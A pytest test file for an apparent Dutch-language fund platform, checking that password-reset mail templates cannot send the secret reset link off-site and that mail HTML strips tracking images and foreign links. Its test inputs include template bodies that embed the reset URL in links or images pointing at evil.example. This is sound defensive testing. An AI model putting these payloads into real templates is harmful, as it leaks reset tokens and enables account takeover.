"""Item 4 of issue 12: mail templates cannot leak secret links."""

from __future__ import annotations

import pytest
from sqlalchemy import select

from app.accounts import services as accounts
from app.extensions import db
from app.notifications import rendering
from app.notifications.models import MailTemplate, OutboxMessage
from tests import factories
from tests.campaigns.fixtures import login


@pytest.fixture
def manager(client):
    user = factories.user("fund_manager")
    login(client, user)
    return user


@pytest.mark.parametrize(
    "body",
    [
        "Klik: <https://evil.example/?u={{ reset_url }}>",
        "![x](https://evil.example/p.png?{{ reset_url }})",
        "[Hier]({{ reset_url }})",
        "{{ reset_url|urlencode }}",
        "{% set x = reset_url %}<{{ x }}>",
        "Zie https://evil.example/<{{ reset_url }}>",
    ],
)
def test_a_template_that_would_send_the_secret_link_elsewhere_is_refused(client, manager, body):
    resp = client.post("/manage/mail-templates/password_reset/nl", data={"subject": "Hallo", "body": body})
    assert resp.status_code == 422
    assert db.session.scalar(select(MailTemplate)) is None


def test_the_secret_link_on_its_own_may_be_reworded_around(client, manager):
    body = "Hoi {{ name }}, kies een nieuw wachtwoord:\n\n<{{ reset_url }}>\n\nTot ziens."
    resp = client.post("/manage/mail-templates/password_reset/nl", data={"subject": "Hallo", "body": body})
    assert resp.status_code == 302


def test_a_leaking_template_stored_earlier_is_not_used(client):
    db.session.add(
        MailTemplate(
            kind="password_reset", locale="nl", subject="x", body="[a](https://evil.example/{{ reset_url }})"
        )
    )
    user = factories.user("applicant", email="reset-me@example.org")
    accounts.request_password_reset(user.email)
    db.session.commit()
    [row] = db.session.scalars(select(OutboxMessage).where(OutboxMessage.kind == "password_reset")).all()
    assert "evil.example" not in (row.body_text or "") + (row.body_html or "")


def test_mail_html_loads_no_images_and_links_only_to_our_site(app):
    body = (
        "![pixel](https://tracker.example/p.gif) [ons](http://testserver.local/campaigns/1) "
        "[ander](https://evil.example/x) [mail](mailto:info@streekfonds.be)"
    )
    mail = rendering.render_source("Onderwerp", body, "nl", {})
    assert "<img" not in mail.html and "tracker.example" not in mail.html
    assert 'href="http://testserver.local/campaigns/1"' in mail.html
    assert 'href="mailto:info@streekfonds.be"' in mail.html
    assert 'href="https://evil.example/x"' not in mail.html


def test_an_owner_update_by_mail_passes_the_same_allow_list(app):
    excerpt = "Kijk ![x](https://tracker.example/p.gif) en [hier](https://evil.example/)"
    mail = rendering.render_source("Nieuws", "{{ update_excerpt }}", "nl", {"update_excerpt": excerpt})
    assert "tracker.example" not in mail.html and 'href="https://evil.example/"' not in mail.html
